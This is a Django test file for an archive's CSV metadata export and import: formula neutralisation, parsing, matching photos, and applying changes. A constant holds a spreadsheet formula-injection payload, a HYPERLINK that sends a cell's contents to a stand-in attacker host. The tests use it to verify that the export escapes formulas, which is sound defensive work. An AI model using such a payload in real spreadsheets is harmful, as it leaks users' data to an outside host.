"""Descriptions as tables: out, in again, and what people's own tables look like."""

import csv
import io

import pytest
from django.contrib.auth.models import User

from archive.access.roles import Role
from archive.description.changes import Description
from archive.description.metadata_csv import COLUMNS, as_written, metadata_csv, neutralised
from archive.description.metadata_table import MAX_BYTES, MAX_ROWS, decode_table, read_table
from archive.errors import InputError, StateError
from archive.models import Collection, MetadataImport, MetadataRow, Photo
from archive.queue.description_tasks import continue_metadata
from archive.services import (
    apply_metadata,
    create_collection,
    describe_photo,
    describe_photos,
    receive_metadata,
)
from tests.factories import make_collection, make_photo, make_user

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"click")'


@pytest.fixture
def owner() -> User:
    return make_user("sri")


@pytest.fixture
def collection(owner: User) -> Collection:
    return make_collection(owner=owner, title="Album")


def handed_in(collection: Collection, table: str, **options: object) -> MetadataImport:
    return receive_metadata(
        collection=collection,
        uploaded_by=options.pop("by", collection.owner),
        content=table.encode(),
        filename="table.csv",
        **options,
    )


def planned(collection: Collection, table: str, **options: object) -> list[MetadataRow]:
    return rows_of(handed_in(collection, table, **options))


def rows_of(kept: MetadataImport) -> list[MetadataRow]:
    return list(kept.rows.all())


def applied(kept: MetadataImport, actor: User) -> MetadataImport:
    apply_metadata(metadata_import=kept, actor=actor)
    continue_metadata(str(kept.pk))
    kept.refresh_from_db()
    return kept


class TestWriting:
    def test_one_row_a_photo_with_everything_that_is_said(self, collection: Collection, owner: User) -> None:
        photo = make_photo(collection=collection, filename="a.png")
        describe_photo(photo=photo, actor=owner, title="Porch", notes="one\ntwo", tags=["b", "A"])
        heading, row = csv.reader(io.StringIO("".join(metadata_csv(collection.photos.all()))))
        assert tuple(heading) == COLUMNS
        cells = dict(zip(heading, row, strict=True))
        assert cells["photo"] == str(photo.pk)
        assert cells["sha256"] == photo.original.sha256
        assert (cells["collection"], cells["filename"], cells["title"]) == ("Album", "a.png", "Porch")
        assert (cells["notes"], cells["tags"]) == ("one\ntwo", "A; b")

    @pytest.mark.parametrize(
        "text", ["=1+1", "+62 22 1234", "-1985", "@home", "\t=1", "\uff1d1+1", "'=1", "''@x"]
    )
    def test_what_spreadsheets_would_run_is_made_text_and_comes_back(self, text: str) -> None:
        assert neutralised(text) == f"'{text}"
        assert as_written(neutralised(text)) == text

    @pytest.mark.parametrize("text", ["Porch", "'t Hooft", "", "1+1", "''"])
    def test_everything_else_stays(self, text: str) -> None:
        assert neutralised(text) == text == as_written(text)

    def test_the_queries_do_not_grow_with_the_photos(
        self, collection: Collection, django_assert_num_queries: object
    ) -> None:
        for _ in range(3):
            make_photo(collection=collection)
        with django_assert_num_queries(2):
            assert len(list(metadata_csv(collection.photos.all()))) == 4


class TestRoundTrip:
    def test_what_went_out_comes_in_unchanged_and_restores_what_was_lost(
        self, collection: Collection, owner: User
    ) -> None:
        photo = make_photo(collection=collection)
        describe_photo(
            photo=photo,
            actor=owner,
            title=FORMULA,
            notes='"quoted", and\nmore;',
            date_edtf="-0044",
            tags=["+1"],
        )
        table = "".join(metadata_csv(collection.photos.all()))
        assert f"\"'{FORMULA[:10]}" in table
        assert [row.outcome for row in planned(collection, table)] == ["unchanged"]

        describe_photo(photo=photo, actor=owner, title="", notes="", date_edtf="", tags=[])
        applied(handed_in(collection, table), owner)
        photo.refresh_from_db()
        assert (photo.title, photo.notes) == (FORMULA, '"quoted", and\nmore;')
        assert (photo.date_edtf, [tag.name for tag in photo.tags.all()]) == ("-0044", ["+1"])


class TestReading:
    @pytest.mark.parametrize(
        "content",
        [
            "filename,title\r\na.png,Café\r\n".encode(),
            "\ufefffilename;title\na.png;Café\n".encode(),
            "filename\ttitle\r\na.png\tCafé\r\n".encode("utf-16"),
            'filename,title\n"a.png","Café"'.encode(),
            "\ufeffFile Name,DC:Title,,shelf\n\na.png,Café\n".encode(),
        ],
    )
    def test_whatever_spreadsheets_write(self, content: bytes) -> None:
        table = read_table(decode_table(content))
        assert [cells for _line, cells in table.rows] == [{"filename": "a.png", "title": "Café"}]

    def test_unknown_columns_are_named_and_lines_counted_as_in_the_file(self) -> None:
        table = read_table('sha256,notes,shelf\nx,"one\ntwo",3\n\ny,n,4\n')
        assert table.ignored == ("shelf",)
        assert [line for line, _cells in table.rows] == [2, 5]

    @pytest.mark.parametrize(
        ("content", "code"),
        [
            (b"filename,title\na.png,\xff\xfe\n", "archive:csv:not-text"),
            (b"PK\x03\x04\x00\x00", "archive:csv:not-text"),
            (b"", "archive:csv:no-columns"),
            (b"shelf,box\n1,2\n", "archive:csv:no-columns"),
            (b"title,dc:title\n1,2\n", "archive:csv:column-twice"),
            (b'filename,title\na.png,"open\n', "archive:csv:broken"),
            (b"filename,title\na.png,House, with garden\n", "archive:csv:broken"),
            (b"filename\n" + b"a\n" * (MAX_ROWS + 1), "archive:csv:too-many-rows"),
            (b"x" * (MAX_BYTES + 1), "archive:csv:too-large"),
        ],
    )
    def test_what_cannot_be_read_is_refused(self, content: bytes, code: str) -> None:
        with pytest.raises(InputError) as refused:
            read_table(decode_table(content))
        assert refused.value.code == code


class TestFinding:
    @pytest.fixture
    def photo(self, collection: Collection, owner: User) -> Photo:
        photo = make_photo(collection=collection, filename="a.png")
        return describe_photo(photo=photo, actor=owner, call_number="KIT 1")

    def test_by_each_of_its_names(self, collection: Collection, photo: Photo) -> None:
        for key, value in {
            "photo": str(photo.pk).upper(),
            "sha256": photo.original.sha256.upper(),
            "call_number": "KIT 1",
            "filename": "a.png",
        }.items():
            kept = handed_in(collection, f"{key},title\n{value},Porch\n")
            assert kept.key == key
            assert rows_of(kept)[0].changes == {"title": {"from": "", "to": "Porch"}}, key

    def test_the_surest_name_is_taken_unless_another_is_asked_for(
        self, collection: Collection, photo: Photo
    ) -> None:
        table = f"filename,call_number,title\n{photo.filename},KIT 2,Porch\n"
        assert planned(collection, table)[0].code == "archive:csv:not-found"
        by_name = planned(collection, table, key="filename")
        assert by_name[0].changes["call_number"] == {"from": "KIT 1", "to": "KIT 2"}

    def test_of_two_with_one_name_the_folder_decides(
        self, collection: Collection, photo: Photo, owner: User
    ) -> None:
        other = make_photo(collection=collection, filename="a.png")
        Photo.objects.filter(pk=other.pk).update(folder="1965/negatives")
        plan = planned(collection, "filename,folder,title\na.png,1965/negatives/,A\n")
        assert plan[0].photo == other
        assert planned(collection, "filename,title\na.png,A\n")[0].code == "archive:csv:ambiguous"

    def test_below_the_collection_too_but_nowhere_else(self, collection: Collection, owner: User) -> None:
        below = create_collection(owner=owner, title="Part", parent=collection)
        make_photo(collection=below, filename="below.png")
        make_photo(collection=make_collection(owner=owner), filename="elsewhere.png")
        plan = planned(collection, "filename,title\nbelow.png,A\nelsewhere.png,B\n")
        assert [row.outcome for row in plan] == ["changed", "refused"]

    def test_a_photo_in_two_rows_is_refused_the_second_time(
        self, collection: Collection, photo: Photo
    ) -> None:
        plan = planned(collection, "filename,title\na.png,A\na.png,B\n")
        assert [row.outcome for row in plan] == ["changed", "refused"]
        assert plan[1].code == "archive:csv:twice"

    @pytest.mark.parametrize(
        ("table", "code"),
        [
            ("title\nPorch\n", "archive:csv:no-key"),
            ("filename,folder\na.png,x\n", "archive:csv:nothing-said"),
        ],
    )
    def test_a_table_that_names_no_photos_or_says_nothing(
        self, collection: Collection, table: str, code: str
    ) -> None:
        with pytest.raises(InputError) as refused:
            handed_in(collection, table)
        assert refused.value.code == code
        assert not MetadataImport.objects.exists()


class TestApplying:
    def test_rows_that_do_not_fit_are_told_and_the_others_applied(
        self, collection: Collection, owner: User
    ) -> None:
        good, bad = (make_photo(collection=collection, filename=name) for name in ("a.png", "b.png"))
        kept = handed_in(
            collection, "filename,title,date\na.png,Porch,1965~\nb.png,Garden,long ago\nc.png,x,1965\n"
        )
        plan = rows_of(kept)
        assert [row.outcome for row in plan] == ["changed", "refused", "refused"]
        assert [row.code for row in plan[1:]] == [
            "archive:date:not-edtf",
            "archive:csv:not-found",
        ]
        good.refresh_from_db()
        assert good.title == ""  # nothing is done by looking

        applied(kept, owner)
        good.refresh_from_db()
        bad.refresh_from_db()
        assert (good.title, good.date_latest.year, bad.title) == ("Porch", 1965, "")
        assert (kept.rows_changed, kept.rows_unchanged, kept.rows_refused, kept.text) == (1, 0, 2, "")
        event = good.events.get(kind="photo-described")
        assert event.details["changes"]["date_edtf"] == {"from": "", "to": "1965~"}

    def test_only_once(self, collection: Collection, owner: User) -> None:
        make_photo(collection=collection, filename="a.png")
        kept = applied(handed_in(collection, "filename,title\na.png,Porch\n"), owner)
        with pytest.raises(StateError):
            apply_metadata(metadata_import=kept, actor=owner)

    def test_an_empty_cell_clears_only_where_that_was_asked_for(
        self, collection: Collection, owner: User
    ) -> None:
        photo = make_photo(collection=collection, filename="a.png")
        describe_photos(
            descriptions={photo.pk: Description(fields={"place": "Bandung"}, tags=["house"])}, actor=owner
        )
        table = "filename,place,tags,title\na.png,,,Porch\n"
        assert planned(collection, table)[0].changes.keys() == {"title"}
        cleared = planned(collection, table, clear_empty=True)
        assert cleared[0].changes.keys() == {"place", "tags", "title"}

    def test_photos_of_which_somebody_is_no_curator_are_not_found(
        self, collection: Collection, owner: User
    ) -> None:
        viewer = make_user()
        collection.memberships.create(user=viewer, role=Role.VIEWER)
        make_photo(collection=collection, filename="a.png")
        kept = handed_in(collection, "filename,title\na.png,Porch\n", by=viewer)
        assert rows_of(kept)[0].code == "archive:csv:not-found"
